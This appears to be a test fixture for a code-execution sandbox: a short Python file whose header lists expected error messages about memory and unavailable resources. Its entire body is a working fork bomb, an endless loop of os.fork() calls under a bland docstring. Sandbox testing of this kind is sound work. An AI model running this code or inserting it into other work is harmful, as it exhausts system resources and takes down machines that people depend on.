# says: MiB of memory|Resource temporarily unavailable|ended its own kernel|could not be interrupted
# other: either
"""Processes that make processes."""

import os

while True:
    os.fork()
